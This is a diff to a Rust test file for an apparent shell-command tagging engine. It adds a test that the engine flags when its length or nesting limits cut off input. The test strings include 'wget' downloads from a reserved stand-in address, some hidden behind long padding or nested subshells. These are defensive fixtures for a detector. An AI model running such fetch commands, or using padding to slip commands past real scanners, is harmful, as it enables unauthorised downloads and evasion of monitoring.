@@ -66,7 +66,7 @@ fn every_example_and_every_sample_line_agrees() {
 
 /// The bytes that a rule shows of a line.
 fn shown(rule: &str, text: &str) -> Vec<String> {
-    let tags = engine().tag(&command(0, 1, "s", text));
+    let tags = engine().tag(&command(0, 1, "s", text)).tags;
     let found = tags.into_iter().find(|tag| tag.rule.as_str() == rule).map(|tag| tag.spans);
     let spans = found.unwrap_or_default().into_iter();
     spans.map(|span| text[span.start as usize..span.end as usize].to_owned()).collect()
@@ -79,6 +79,14 @@ fn what_separates_commands_is_not_shown() {
     {
         assert_eq!(shown("cron_listed", line), ["crontab -l"], "{line}");
     }
+}
+
+#[test]
+fn what_the_limits_cut_off_is_said() {
+    let cut = |text: &str| engine().tag(&command(0, 1, "s", text)).cut;
+    assert!(cut(&("true;".repeat(1100) + "wget http://192.0.2.1/x")));
+    assert!(cut(&("$(".repeat(40) + "wget http://192.0.2.1/x")));
+    assert!(!cut("sudo sh -c 'wget http://192.0.2.1/x'"));
 }
 
 /// Commands of a line are matched once and shown wherever they stand, up to the limit.
